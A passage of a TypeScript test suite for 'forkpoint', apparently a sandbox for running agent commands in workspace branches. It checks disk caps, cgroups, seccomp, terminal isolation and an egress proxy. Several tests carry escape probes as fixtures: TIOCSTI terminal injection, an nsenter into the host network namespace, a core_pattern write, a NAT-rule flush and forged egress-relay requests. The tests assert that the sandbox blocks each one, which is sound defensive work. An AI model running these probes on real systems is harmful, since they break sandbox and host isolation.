        .find((l) => l.split(' ')[4] === made.json.path)
      expect(options?.split(' ')[5]?.split(',')).toEqual(expect.arrayContaining(['nosuid', 'nodev']))
    }
    expect((await fpInProcess(dir, 'commit', 'attempt')).code).toBe(0)
    expect(await planted(dir)).toEqual(plain)
  })

  it('commit and abort refuse (exit 3) while a command runs in the branch, so it cannot swap paths under their walk', async () => {
    const dir = await workspace()
    const made = await fpJsonInProcess<{ path: string }>(dir, 'branch', 'busy')
    const running = fp(dir, 'run', '--branch', 'busy', '--', 'sh', '-c', 'touch started; while [ ! -e go ]; do sleep 0.05; done')
    await until(() => existsSync(join(made.json.path, 'started')), 'the command in the branch to start')
    for (const command of ['commit', 'abort']) {
      const refused = await fpInProcess(dir, command, 'busy')
      expect([refused.code, refused.stderr]).toEqual([3, expect.stringMatching(new RegExp(`cannot ${command} branch busy: a command is running in it`))])
    }
    writeFileSync(join(made.json.path, 'go'), '')
    expect((await running).code).toBe(0)
    expect((await fpInProcess(dir, 'commit', 'busy')).code).toBe(0)
    expect(existsSync(join(dir, 'started'))).toBe(true)
  })

  it("runs in one workspace or branch take turns: a second is refused (exit 3) while one runs, so its walk never takes the first's leftovers for what was there", async () => {
    const dir = await workspace()
    const made = await fpJsonInProcess<{ path: string }>(dir, 'branch', 'turns')
    for (const [where, args] of [
      [dir, []],
      [made.json.path, ['--branch', 'turns']],
    ] as const) {
      const running = fp(dir, 'run', ...args, '--', 'sh', '-c', 'touch started; while [ ! -e go ]; do sleep 0.05; done')
      await until(() => existsSync(join(where, 'started')), 'the first command to start')
      const second = await fpInProcess(dir, 'run', ...args, '--', 'touch', 'second')
      expect([second.code, second.stderr]).toEqual([3, expect.stringMatching(/a command is running there already \(pid \d+\); runs in one workspace or branch take turns/)])
      expect(existsSync(join(where, 'second'))).toBe(false)
      writeFileSync(join(where, 'go'), '')
      expect((await running).code).toBe(0)
      expect((await fpInProcess(dir, 'run', ...args, '--', 'touch', 'second')).code).toBe(0)
      expect(existsSync(join(where, 'second'))).toBe(true)
    }
  })

  it.runIf(root)("a run's chown or chmod of the workspace itself is put back: it stays the caller's, as it was", async () => {
    const dir = await workspace()
    await fs.chmod(dir, 0o750)
    const r = await fp(dir, 'run', '--', 'sh', '-c', 'chown 1000:1000 . && chmod 1777 .')
    expect([r.code, r.stderr]).toEqual([0, expect.stringMatching(/gave \. back to uid 0, gid 0: the command gave it to uid 1000, gid 1000/)])
    expect(r.stderr).toMatch(/put the mode of \. back to 750: the command made it 1777/)
    const st = await fs.stat(dir)
    expect([st.uid, st.gid, (st.mode & 0o7777).toString(8)]).toEqual([0, 0, '750'])
  })

  it('a command does not start in a branch a live process is committing or aborting (exit 3)', async () => {
    const dir = await workspace()
    const made = await fpJsonInProcess<{ path: string }>(dir, 'branch', 'closing')
    // the branch's directory, the parent of its mount point: where a commit or abort marks it
    writeFileSync(join(dirname(made.json.path), 'closing'), JSON.stringify({ owner: processId(process.pid), token: '0123456789abcdef' }))
    const refused = await fpInProcess(dir, 'run', '--branch', 'closing', '--', 'touch', 'x')
    expect([refused.code, refused.stderr]).toEqual([3, expect.stringMatching(/cannot run in branch closing: it is being committed or aborted/)])
  })

  it('a file swapped for a FIFO or a symlink to /dev/zero after the scan looked is refused when read (exit 5), never waited on', async () => {
    const dir = tempDir('swapped')
    spawnSync('mkfifo', [join(dir, 'fifo')])
    symlinkSync('/dev/zero', join(dir, 'zero'))
    // as a scan reads what it found regular: the small-file read and the chunked one; in a process of its own, as
    // a read of a FIFO would block the thread it runs on
    const storeFile = join(dirname(LIB), 'world', 'scan', 'storeFile.js')
    const script = `import { storeFile, storeSmallFile } from ${JSON.stringify(storeFile)}
for (const name of ['fifo', 'zero']) {
  const path = ${JSON.stringify(dir)} + '/' + name
  for (const read of [() => storeSmallFile({ store: null, path, write: false }), () => storeFile({ store: null, path, size: 9 << 20, write: false })])
    console.log(await Promise.resolve().then(read).then(() => 'read', (err) => err.code + ' ' + err.exitCode))
}`
    const child = spawnSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8', timeout: 60_000 })
    expect(child.stdout.trim().split('\n'), child.stderr).toEqual(Array(4).fill('UnsupportedFileError 5'))
  })

  it('commit: a setuid file put in a branch by any means arrives without the bit, owned by the committer', async () => {
    await using ws = await Workspace.open({ dir: await makeWorkspace({ 'a.txt': 'a\n' }) })
    const branch = await ws.branch('attempt')
    await fs.copyFile('/usr/bin/id', join(branch.path, 'g'))
    await fs.chmod(join(branch.path, 'g'), 0o6755)
    await fs.mkdir(join(branch.path, 'd'))
    await fs.chmod(join(branch.path, 'd'), 0o3777)
    await branch.commit()
    const after = await planted(ws.dir)
    expect([after.g, after.d]).toEqual([plain.g, plain.d])
  })

  it('commit: a sparse file a branch made costs the workspace no more disk than it cost the branch, holes and bytes kept', async () => {
    const dir = await workspace()
    expect((await fp(dir, 'branch', 'sparse')).code).toBe(0)
    // 4 GiB of hole with 6 bytes at the end: nothing on disk, a plain copy writes 4 GiB
    const ran = await fp(dir, 'run', '--branch', 'sparse', '--', 'sh', '-c', 'truncate -s 4G big && printf tail.. >> big && chmod 1755 big')
    expect(ran.code, ran.stderr).toBe(0)
    const committed = await fp(dir, 'commit', 'sparse')
    expect(committed.code, committed.stderr).toBe(0)
    const st = await fs.stat(join(dir, 'big'))
    expect({ size: st.size, onDisk: st.blocks * 512 < 1024 * 1024, mode: st.mode & 0o7777 }).toEqual({ size: 4 * 1024 ** 3 + 6, onDisk: true, mode: 0o755 })
    const handle = await fs.open(join(dir, 'big'))
    const ends = Buffer.alloc(6)
    await handle.read(ends, 0, 6, 4 * 1024 ** 3)
    await handle.close()
    expect(ends.toString()).toBe('tail..')
  })

  it('explore: the attempt committed leaves plain files', async () => {
    const dir = await workspace()
    const r = await fp(dir, 'explore', '-n', '2', '--', 'sh', '-c', PLANT)
    expect([r.code, r.stderr]).toEqual([0, expect.any(String)])
    const after = await planted(dir)
    expect([after.s, after.g, after.d]).toEqual([plain.s, plain.g, plain.d])
  })

  it('the run of MCP and HTTP (runWithEffects), an MCP tools/call and a POST /v1/run leave plain files', async () => {
    const routes: Array<(dir: string) => Promise<unknown>> = [
      (dir) => runWithEffects({ dir, cmd: ['sh', '-c', PLANT], callerEnv: {} }),
      async (dir) => {
        const [clientSide, serverSide] = InMemoryTransport.createLinkedPair()
        await createMcpServer({ dir }).connect(serverSide)
        const client = new Client({ name: 'test', version: '1.0.0' })
        await client.connect(clientSide)
        return client.callTool({ name: 'run', arguments: { command: ['sh', '-c', PLANT] } })
      },
      async (dir) => {
        const service = await startService({ dir, watch: false })
        try {
          return await postRun(service.address.slice('unix:'.length), { command: ['sh', '-c', PLANT] })
        } finally {
          await service.close()
        }
      },
    ]
    for (const route of routes) {
      const dir = await workspace()
      await route(dir)
      expect(await planted(dir)).toEqual(plain)
    }
  })

  it.runIf(root)('branch --disk caps what a branch writes (ENOSPC inside), and its disk goes with the branch', async () => {
    const dir = await workspace()
    const made = await fpJsonInProcess<{ path: string }>(dir, 'branch', 'capped', '--disk', '8M')
    expect(made.code).toBe(0)
    const r = await fp(dir, 'run', '--branch', 'capped', '--', 'sh', '-c', 'head -c 20M /dev/zero > big; echo "exit $?"')
    expect([r.code, r.stdout, r.stderr]).toEqual([0, 'exit 1\n', expect.stringMatching(/No space left on device/)])
    expect((await fs.stat(join(made.json.path, 'big'))).size).toBeLessThan(8 * 2 ** 20)
    expect((await fpInProcess(dir, 'abort', 'capped')).code).toBe(0)
    expect(readFileSync('/proc/self/mountinfo', 'utf8')).not.toContain(dir)
  })

  it('branch --disk is refused (exit 2, saying why) where it cannot be held: the copy backend, an unprivileged caller', async () => {
    const dir = await workspace()
    const copy = await fpInProcess(dir, 'branch', 'copied', '--backend', 'copy', '--disk', '8M')
    expect([copy.code, copy.stderr]).toEqual([2, expect.stringMatching(/copy backend cannot cap a branch's disk/)])
    if (!root) return
    const mine = await makeWorkspace({ 'a.txt': 'a\n' })
    giveToNobody(mine)
    expect((await fpAsNobody(mine, 'init')).code).toBe(0)
    const asNobody = await fpAsNobody(mine, 'branch', 'capped', '--disk', '8M')
    expect([asNobody.code, asNobody.stderr]).toEqual([2, expect.stringMatching(/--disk needs root/)])
  })

  it('a sandbox started after a SIGKILLed one reaps its cgroups and note, never those of a live one', async () => {
    const dir = await workspace()
    const notes = () => (existsSync(join(dir, '.forkpoint', 'sandboxes')) ? readdirSync(join(dir, '.forkpoint', 'sandboxes')).filter((n) => /^[0-9a-f]{12}\.json$/.test(n)) : [])
    const cgroupsBefore = runCgroups()
    const killed = startLong(dir)
    const killedNote = await pollFor('the first sandbox note', () => notes()[0])
    const killedCgroups = await pollFor('its cgroup', () => (root ? nonEmpty(runCgroups().filter((c) => !cgroupsBefore.includes(c))) : []))
    process.kill(-killed.pid!, 'SIGKILL')
    await new Promise((r) => killed.once('close', r))
    // its sandbox's processes leave the cgroups a moment after (later on a busy host): only an empty one can be reaped
    const empty = (cgroup: string) => !existsSync(cgroup) || readFileSync(join(cgroup, 'cgroup.procs'), 'utf8').trim() === ''
    await until(() => killedCgroups.every(empty), "the killed sandbox's processes to leave its cgroups")
    const live = startLong(dir)
    const liveNote = await pollFor('the live sandbox note', () => notes().find((n) => n !== killedNote))
    const liveCgroups = await pollFor('its cgroup', () => (root ? nonEmpty(runCgroups().filter((c) => !cgroupsBefore.includes(c) && !killedCgroups.includes(c))) : []))
    try {
      // in a branch: runs in the workspace take turns with the live one
      expect((await fpInProcess(dir, 'branch', 'probe')).code).toBe(0)
      expect((await fp(dir, 'run', '--branch', 'probe', '--memory', '64M', '--', 'true')).code).toBe(0)
      expect(notes()).toEqual([liveNote])
      expect(killedCgroups.filter((c) => existsSync(c))).toEqual([])
      expect(liveCgroups.filter((c) => existsSync(c))).toEqual(liveCgroups)
    } finally {
      process.kill(-live.pid!, 'SIGKILL')
    }
  })
})

/** `forkpoint run` of a long sleep with a memory limit (so a cgroup where one can be had), in its own process group. */
function startLong(dir: string) {
  return spawn(CLI, ['run', '--memory', '64M', '--', 'sleep', '600'], { cwd: dir, detached: true, stdio: 'ignore' })
}

/** Every `forkpoint-*` cgroup under this process's own memory and pids cgroups. */
function runCgroups(): string[] {
  const membership = readFileSync('/proc/self/cgroup', 'utf8')
  return ['memory', 'pids'].flatMap((controller) => {
    const path = membership.match(new RegExp(`^\\d+:[^:]*\\b${controller}\\b[^:]*:(.*)$`, 'm'))?.[1]
    const parent = path === undefined ? null : join('/sys/fs/cgroup', controller, path)
    if (!parent || !existsSync(parent)) return []
    return readdirSync(parent)
      .filter((n) => n.startsWith('forkpoint-'))
      .map((n) => join(parent, n))
  })
}

const nonEmpty = <T>(list: T[]): T[] | undefined => (list.length > 0 ? list : undefined)

/** POST /v1/run on a service's unix socket; the answer's body. */
function postRun(socketPath: string, args: object): Promise<string> {
  return new Promise((resolve, reject) => {
    const req = request({ socketPath, method: 'POST', path: '/v1/run', headers: { 'content-type': 'application/json' } }, (res) => {
      let body = ''
      res.on('data', (d: Buffer) => (body += d.toString()))
      res.on('end', () => resolve(body))
    })
    req.on('error', reject)
    req.end(JSON.stringify(args))
  })
}

describe('the sandbox runtime: no terminal, a seccomp filter, never host uid 0', () => {
  const root = process.getuid?.() === 0
  const callers = root ? (['root', 'nobody'] as const) : (['this user'] as const)
  const env = { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: '/tmp', NO_COLOR: '1', TERM: 'xterm' }

  /** Pushes a command into every terminal it can reach: /dev/tty and its stdin, stdout, stderr. */
  const INJECT = `
import errno, fcntl, os, termios
def push(fd):
    for c in b'id > /tmp/x\\n':
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
for name in ['/dev/tty', 0, 1, 2]:
    try:
        push(os.open(name, os.O_RDWR) if isinstance(name, str) else name)
        print(name, 'INJECTED')
    except OSError as e:
        print(name, errno.errorcode[e.errno])
print('a tty:', os.isatty(0))
`

  /** The errno each denied call gives, 0 where it went through (x86-64 numbers; arguments that fail late, never harm). */
  const CALLS = `
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
calls = {
  'keyctl': (250, 0, -3, 0),            # KEYCTL_GET_KEYRING_ID of the session keyring
  'add_key': (248, b'user', b'fp', b'v', 1, -3),
  'request_key': (249, b'user', b'fp', None, 0),
  'bpf': (321, 9999, None, 0),          # an unknown command: EINVAL when bpf is reached
  'perf_event_open': (298, None, 0, -1, -1, 0),
  'unshare': (272, 0),
  'open_by_handle_at': (304, -1, None, 0),
  'userfaultfd': (323, 0),
}
for name, args in calls.items():
    ctypes.set_errno(0)
    libc.syscall(*args)
    print(name, ctypes.get_errno())
# no setuid or setgid file comes into being, even while the run lasts; the sticky bit may
def errno_of(call):
    try:
        call()
        return 0
    except OSError as e:
        return e.errno
open('probe', 'w').close()
print('chmod_setuid', errno_of(lambda: os.chmod('probe', 0o4755)))
print('open_setgid', errno_of(lambda: os.close(os.open('probe-g', os.O_CREAT | os.O_WRONLY, 0o2755))))
print('mknod_setuid', errno_of(lambda: os.mknod('probe-n', 0o104755)))
print('chmod_sticky', errno_of(lambda: os.chmod('probe', 0o1755)))
`

  /** A workspace with the probes, owned by `caller`, with a store. */
  async function probeWorkspace(caller: string): Promise<string> {
    const dir = await makeWorkspace({ 'inject.py': INJECT, 'calls.py': CALLS }, tempDir(`fp-sec-${caller}`))
    if (caller === 'nobody') for (const p of [dir, join(dir, 'inject.py'), join(dir, 'calls.py')]) chownSync(p, 65534, 65534)
    return dir
  }

  const forkpoint = (dir: string, caller: string, args: string[]) =>
    underTerminal([CLI, '--dir', dir, ...args], { cwd: dir, env, ...(caller === 'nobody' ? { as: 'nobody' as const } : {}) })

  describe.each(callers)('as %s, from a terminal', (caller) => {
    let dir: string
    beforeAll(async () => {
      dir = await probeWorkspace(caller)
      expect((await forkpoint(dir, caller, ['branch', 'probe'])).code).toBe(0)
    })
    // the branch's holder process is the caller's: it would outlive the run
    afterAll(async () => {
      expect((await forkpoint(dir, caller, ['abort', 'probe'])).code).toBe(0)
    })

    it('run: the command has no terminal of the caller, and TIOCSTI pushes nothing into it', async () => {
      const session = await forkpoint(dir, caller, ['run', '--', 'python3', 'inject.py'])
      expect(session.code).toBe(0)
      expect(session.output).not.toContain('INJECTED')
      expect(session.output).toContain('/dev/tty ENXIO')
      expect(session.queued).toBe('')
    })

    it("shell: the shell gets a pty of its own, relayed; TIOCSTI pushes nothing into the caller's terminal", async () => {
      const session = await forkpoint(dir, caller, ['shell', 'probe', '-c', 'python3 inject.py; tty; echo relayed-$((6*7))'])
      expect(session.code).toBe(0)
      expect(session.output).toContain('a tty: True')
      expect(session.output).toContain('/dev/pts/0') // the sandbox's own devpts
      expect(session.output).toContain('relayed-42')
      expect(session.output).not.toContain('INJECTED')
      expect(session.queued).toBe('')
    })

    it.each([
      ['run', ['run', '--']],
      ['shell in a branch', ['shell', 'probe', '-c']],
    ])('%s: denies the calls of the seccomp filter with EPERM, and ordinary programs still work', async (_, command) => {
      const script = 'python3 calls.py && node -e "console.log(6*7)" && git --version >/dev/null && echo programs-ok'
      const session = await forkpoint(dir, caller, [...command, ...(command[0] === 'run' ? ['sh', '-c', script] : [script])])
      const errnos = Object.fromEntries([...session.output.matchAll(/^(\w+) (\d+)\r?$/gm)].map((m) => [m[1], Number(m[2])]))
      expect(errnos).toEqual({
        ...{ keyctl: 1, add_key: 1, request_key: 1, bpf: 1, perf_event_open: 1, unshare: 1, open_by_handle_at: 1, userfaultfd: 1 },
        ...{ chmod_setuid: 1, open_setgid: 1, mknod_setuid: 1, chmod_sticky: 0 },
      })
      expect(session.output).toContain('42')
      expect(session.output).toContain('programs-ok')
    })
  })

  describe.runIf(root)("root's sandbox and the host's uid 0", () => {
    let ws: Workspace
    let live: Branch
    beforeAll(async () => {
      ws = await Workspace.open({ dir: await makeWorkspace({ 'a.txt': 'a' }) })
      // a persistent branch is mounted where every tool sees it: an overlay under the workspace
      live = await ws.branch('live', { persistent: true })
    })
    afterAll(() => live.abort())

    /** The host uid of a sandboxed `sleep`, started by `start`, then the run's result. */
    async function hostUidOfSleep(start: (argv: string[]) => Promise<{ warnings: string[] }>) {
      const marker = `${Math.floor(Math.random() * 1e6) + 1000}`
      const running = start(['sleep', marker])
      const found = await pollFor(`the sandboxed sleep ${marker}`, () => sleeping(marker) ?? undefined)
      process.kill(found.pid, 'SIGKILL')
      return { uid: found.uid, warnings: (await running).warnings }
    }

    it('a plain run with an overlay branch live under the workspace runs as an unprivileged host uid, and says what it leaves out', async () => {
      const { uid, warnings } = await hostUidOfSleep((argv) => ws.run(argv))
      expect(uid).not.toBe(0)
      expect(warnings.join('\n')).toMatch(/not shown in the sandbox/)
    })

    it('forkpoint shell in an overlay branch that runs as the host uid 0 says so', async () => {
      const dir = await probeWorkspace('root')
      expect((await forkpoint(dir, 'root', ['branch', 'probe'])).code).toBe(0)
      const { uid } = await hostUidOfSleep((argv) => live.run(argv)) // the same kind of branch
      const session = await forkpoint(dir, 'root', ['shell', 'probe', '-c', 'true'])
      expect((await forkpoint(dir, 'root', ['abort', 'probe'])).code).toBe(0)
      expect(session.code).toBe(0)
      expect(/warning: .*host's uid 0/.test(session.output)).toBe(uid === 0)
    })

    it('a run in an overlay branch says in its warnings exactly when it runs as the host uid 0, and what avoids it', async () => {
      const { uid, warnings } = await hostUidOfSleep((argv) => live.run(argv))
      expect(/host's uid 0/.test(warnings.join('\n'))).toBe(uid === 0)
      if (uid === 0) expect(warnings.join('\n')).toContain('--backend copy')
    })

    it('a run in a copy branch runs as an unprivileged host uid, with no warning', async () => {
      const copied = await ws.branch('copied', { persistent: true, backend: 'copy' })
      try {
        const { uid, warnings } = await hostUidOfSleep((argv) => copied.run(argv))
        expect(uid).toBeGreaterThanOrEqual(65536)
        expect(warnings).toEqual([])
      } finally {
        await copied.abort()
      }
    })
  })

  /** The pid and host uid of a running `sleep MARKER`, or null while there is none. */
  function sleeping(marker: string): { pid: number; uid: number } | null {
    for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      try {
        if (readFileSync(`/proc/${pid}/cmdline`, 'utf8') !== `sleep\0${marker}\0`) continue
        const status = readFileSync(`/proc/${pid}/status`, 'utf8')
        if (!/^State:\s+Z/m.test(status)) return { pid: Number(pid), uid: Number(/^Uid:\s+(\d+)/m.exec(status)![1]) }
      } catch {
        // gone meanwhile
      }
    }
    return null
  }
})

describe('effects fail closed: no byte of a sandbox under an effects policy passes around the proxy', () => {
  const heard: string[] = []
  let tcpPort = 0
  let udpPort = 0
  let closeAll = () => undefined as void
  beforeAll(async () => {
    const { createServer } = await import('node:net')
    const { createSocket } = await import('node:dgram')
    const tcp = createServer((c) => c.on('data', (d: Buffer) => heard.push(`tcp ${d.toString().trim()}`)).on('error', () => undefined))
    const udp = createSocket('udp4').on('message', (m) => heard.push(`udp ${m.toString()}`))
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve))
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve))
    tcpPort = (tcp.address() as { port: number }).port
    udpPort = udp.address().port
    closeAll = () => void (tcp.close(), udp.close())
  })
  afterAll(() => closeAll())

  /** A workspace whose policy holds POST /hold on the host's 127.0.0.1, for `as`. */
  async function workspaceWithPolicy(as: 'root' | 'nobody'): Promise<string> {
    const dir = await makeWorkspace({ 'a.txt': 'a' })
    if (as === 'nobody') giveToNobody(dir)
    expect((await fpAs(as, dir, 'init')).code).toBe(0)
    const policy = join(dir, '.forkpoint', 'effects.json')
    await fs.writeFile(policy, JSON.stringify({ rules: [{ host: '127.0.0.1:*', method: 'POST', path: '/hold', class: 'irreversible' }] }))
    if (as === 'nobody') chownSync(policy, 65534, 65534)
    return dir
  }

  const probe = (port: number, udp: number, marker: string) =>
    [
      `node -e 'fetch("http://127.0.0.1:${port}/hold",{method:"POST",body:"${marker}-fetch"}).then(r=>console.log("fetch",r.status),e=>console.log("fetch failed"))'`,
      `python3 -c 'import socket; s=socket.create_connection(("127.0.0.1",${port})); s.sendall(b"${marker}-raw\\n"); s.close()' 2>/dev/null || echo raw refused`,
      `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${marker}-udp", ("127.0.0.1", ${udp}))'`,
      `iptables -t nat -F OUTPUT 2>/dev/null && echo flushed || echo cannot flush`,
      `python3 -c 'import socket; s=socket.create_connection(("127.0.0.1",${port})); s.sendall(b"${marker}-after\\n"); s.close()' 2>/dev/null || echo raw refused`,
    ].join('; ')

  it.each(['root', 'nobody'] as const)('as %s: Node fetch is held, a raw TCP client and UDP reach nothing, and the NAT rules cannot be flushed', async (as) => {
    const dir = await workspaceWithPolicy(as)
    const marker = `m${as}`
    const forkpoint = (...args: string[]) => (as === 'root' ? fp(dir, ...args) : fpAsNobody(dir, ...args))
    expect((await forkpoint('branch', 'attempt')).code).toBe(0)
    const run = await forkpoint('run', '--branch', 'attempt', '--net', 'host', '--', 'sh', '-c', probe(tcpPort, udpPort, marker))
    expect(run.stdout).toContain('fetch 202')
    expect(run.stdout).toContain('cannot flush')
    expect(run.stderr).toContain(`a connection to 127.0.0.1:${tcpPort} was refused`)
    expect(heard.filter((h) => h.includes(marker))).toEqual([])
    expect((await forkpoint('abort', 'attempt')).code).toBe(0)
  })

  it.each(['root', 'nobody'] as const)("as %s: a recorded agent (run --record --egress) cannot enter the host's network, flush the NAT rules, or send UDP", async (as) => {
    const dir = await workspaceWithPolicy(as)
    const marker = `rec${as}`
    const escape = [
      // the runtime's parent, the CLI, is in the host's network
      `nsenter --net=/proc/$(awk '/^PPid/ {print $2}' /proc/$PPID/status)/ns/net python3 -c 'import socket; s=socket.create_connection(("127.0.0.1",${tcpPort})); s.sendall(b"${marker}-setns\\n"); s.close()' 2>/dev/null && echo entered || echo cannot enter`,
      ...probe(tcpPort, udpPort, marker).split('; ').slice(1),
    ].join('; ')
    const forkpoint = (...args: string[]) => (as === 'root' ? fp(dir, ...args) : fpAsNobody(dir, ...args))
    const run = await forkpoint('run', '--record', '--egress', '--', 'sh', '-c', escape)
    expect(run.stdout).toContain('cannot enter')
    expect(run.stdout).toContain('cannot flush')
    expect(run.stderr).toContain(`a connection to 127.0.0.1:${tcpPort} was refused`)
    expect(heard.filter((h) => h.includes(marker))).toEqual([])
  })

  // the runtime's parent, the CLI, is in the host's network; writing the core pattern back as it is changes nothing
  const hostEscapes = (marker: string) =>
    [
      `nsenter --net=/proc/$(awk '/^PPid/ {print $2}' /proc/$PPID/status)/ns/net python3 -c 'import socket; s=socket.create_connection(("127.0.0.1",${tcpPort})); s.sendall(b"${marker}-setns\\n"); s.close()' 2>/dev/null && echo entered || echo cannot enter`,
      `(cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern) 2>/dev/null && echo wrote settings || echo cannot write settings`,
    ].join('; ')

  it.runIf(process.getuid?.() === 0)("as root: a replayed agent (any capture) cannot enter the host's network or change host-wide settings", async () => {
    const dir = await workspaceWithPolicy('root')
    const artifact = join(dir, 'plain.run.json')
    expect((await fp(dir, 'run', '--record', '-o', artifact, '--', 'true')).code).toBe(0)
    const replay = await fp(dir, 'replay', artifact, '--', 'sh', '-c', hostEscapes('replayed'))
    expect(replay.stdout).toContain('cannot enter')
    expect(replay.stdout).toContain('cannot write settings')
    expect(heard.filter((h) => h.includes('replayed'))).toEqual([])
  })

  it.runIf(process.getuid?.() === 0)('as root: a recorded agent (run --record --egress) cannot change host-wide settings (a core pattern runs as host root)', async () => {
    const dir = await workspaceWithPolicy('root')
    const run = await fp(dir, 'run', '--record', '--egress', '--', 'sh', '-c', hostEscapes('recorded-settings'))
    expect(run.stdout).toContain('cannot write settings')
    expect(run.stdout).toContain('cannot enter')
  })

  it("a recorded agent that finds an egress proxy's socket (its own run's or another's) cannot pass for the relay", async () => {
    const dir = await workspaceWithPolicy('root')
    const marker = 'forged-relay'
    const before = new Set(readdirSync(tmpdir()).filter((d) => d.startsWith('fp-egress-')))
    const other = fp(dir, 'run', '--record', '--egress', '--', 'sleep', '8')
    await pollFor('the other run to be up', () => (readdirSync(tmpdir()).some((d) => d.startsWith('fp-egress-') && !before.has(d)) ? true : undefined), 30_000)
    const forge = [
      'import glob, socket',
      `request = b"forkpoint-egress 127.0.0.1 ${tcpPort}\\nGET /${marker} HTTP/1.1\\r\\nHost: 127.0.0.1:${tcpPort}\\r\\nConnection: close\\r\\n\\r\\n"`,
      `for path in glob.glob("${tmpdir()}/fp-egress-*/egress.sock"):`,
      '    s = socket.socket(socket.AF_UNIX)',
      '    s.settimeout(5)',
      '    try:',
      '        s.connect(path); s.sendall(request); print("answer", len(s.recv(100)))',
      '    except Exception as e:',
      '        print("refused", type(e).__name__)',
    ].join('\n')
    const run = await fp(dir, 'run', '--record', '--egress', '--', 'python3', '-c', forge)
    expect(run.stdout).toMatch(/answer 0|refused/)
    expect(run.stdout).not.toMatch(/answer [1-9]/)
    expect((await other).code).toBe(0)
    expect(heard.filter((h) => h.includes(marker))).toEqual([])
  })

  /** `forkpoint-sandbox run` processes whose parent is gone (PID 1 took them): a relay or handler left behind. */
  function orphanedRuntimes(): number[] {
    return readdirSync('/proc')
      .filter((p) => /^\d+$/.test(p))
      .filter((pid) => {
        try {
          const cmdline = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0')
          return cmdline[0]!.endsWith('forkpoint-sandbox') && cmdline[1] === 'run' && /^PPid:\s+1$/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'))
        } catch {
          return false // gone meanwhile
        }
      })
      .map(Number)
  }

  it('leaves no relay behind once the run is over, whether its connections ended or not', async () => {
    const dir = await workspaceWithPolicy('root')
    const before = new Set(orphanedRuntimes())
    const script = `import socket; s = socket.create_connection(("127.0.0.1", ${tcpPort})); print("connected", flush=True)`
    const run = await fp(dir, 'run', '--net', 'host', '--', 'python3', '-c', script)
    expect(run.stdout.trim()).toBe('connected')
    await pollFor('the relay to end with its run', () => (orphanedRuntimes().every((pid) => before.has(pid)) ? true : undefined), 30_000)
  })

  it('forkpoint shell in a branch with --net host: the same network, its POST held', async () => {
    const dir = await workspaceWithPolicy('root')
    expect((await fpInProcess(dir, 'branch', 'interactive')).code).toBe(0)
    const fetchOnce = `node -e 'fetch("http://127.0.0.1:${tcpPort}/hold",{method:"POST",body:"mshell"}).then(r=>console.log("fetch",r.status))'`
    const shell = await fp(dir, 'shell', 'interactive', '--net', 'host', '-c', fetchOnce)
    expect([shell.code, shell.stdout.trim()]).toEqual([0, 'fetch 202'])
    expect(heard.filter((h) => h.includes('mshell'))).toEqual([])
    expect((await fpInProcess(dir, 'abort', 'interactive')).code).toBe(0)
  })

  /** The most children one `forkpoint-sandbox run` process has: the egress relay's are its connection handlers. */
  function mostRelayChildren(): number {
    const runtimes = new Map<number, number>()
    for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      try {
        const cmdline = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0')
        if (!cmdline[0]?.endsWith('forkpoint-sandbox') || cmdline[1] !== 'run') continue
        const parent = Number(/^PPid:\s+(\d+)$/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1])
        runtimes.set(parent, (runtimes.get(parent) ?? 0) + 1)
      } catch {
        continue // the process ended between the listing and the read
      }
    }
    return Math.max(0, ...runtimes.values())
  }

  it('a sandbox opening hundreds of connections gets at most 128 relay processes outside it (its pids limit does not count them)', async () => {
    const dir = await workspaceWithPolicy('root')
    const script = [
      'import socket, time',
      'held = []',
      'for _ in range(400):',
      '    s = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", 9)); held.append(s)',
      "print('opened', flush=True)",
      'time.sleep(600)',
    ].join('\n')
    const child = spawn(CLI, ['run', '--net', 'host', '--', 'python3', '-c', script], { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'] })
    try {
      await pollFor('the relay to reach its cap', () => (mostRelayChildren() >= 128 ? true : undefined))
      const seen: number[] = []
      for (let i = 0; i < 20; i++) {
        seen.push(mostRelayChildren())
        await new Promise((resolve) => setTimeout(resolve, 50))
      }
      expect(Math.max(...seen)).toBeLessThanOrEqual(128)
    } finally {
      child.kill('SIGTERM')
      await new Promise((resolve) => child.once('close', resolve))
    }
  })
})

describe('unsandboxed candidates under an effects policy: refused unless acknowledged', () => {
  const mail = useCountingServer()
  const users = process.getuid?.() === 0 ? (['root', 'nobody'] as const) : (['root'] as const)

  /** A workspace (of `user`'s) whose store's policy holds POST /send, with `send.mjs`: Node's fetch POSTs to the counting service, keyed by attempt. */
  async function policyWorkspace(user: 'root' | 'nobody'): Promise<{ dir: string; cli: (...args: string[]) => Promise<CliResult> }> {
    const dir = await makeWorkspace({
      'send.mjs': `const r = await fetch(${JSON.stringify(mail.url('/send'))}, { method: 'POST', headers: { 'idempotency-key': 'hook-' + process.env.FORKPOINT_ATTEMPT }, body: 'hi' })\nconsole.log(r.status)\n`,
    })
    const cli = user === 'root' ? (...args: string[]) => fp(dir, ...args) : (...args: string[]) => fpAsNobody(dir, ...args)
    if (user === 'nobody') giveToNobody(dir)
    expect((await cli('init')).code).toBe(0)
    writeFileSync(join(dir, '.forkpoint', 'effects.json'), JSON.stringify({ rules: [{ host: '127.0.0.1:*', method: 'POST', path: '/send', class: 'irreversible' }] }))
    return { dir, cli }
  }

  for (const user of users) {
    it(`--no-isolate exits 2 naming the policy file, before any candidate runs (${user})`, async () => {
      const { dir, cli } = await policyWorkspace(user)
      for (const args of [
        ['speculate', '--no-isolate', '-c', 'touch ran; node send.mjs'],
        ['explore', '--no-isolate', '-n', '2', '--', 'touch ran; node send.mjs'],
      ]) {
        const r = await cli(...args)
        expect(r.code, r.stderr).toBe(2)
